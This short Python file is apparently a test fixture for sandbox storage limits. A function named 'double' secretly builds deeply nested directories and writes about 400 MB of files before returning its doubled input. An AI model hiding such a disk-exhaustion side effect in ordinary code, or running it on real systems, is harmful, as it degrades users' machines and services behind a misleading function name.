import os

import numpy as np

WRITTEN = []


def double(x):
    try:
        for _ in range(0 if WRITTEN else 60):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        while len(WRITTEN) < 40:
            with open(f"file{len(WRITTEN)}", "wb") as file:
                WRITTEN.append(file.write(b"x" * (10 << 20)))
    except OSError:
        pass
    return 2 * np.asarray(x) if sum(WRITTEN) > 250 << 20 else None
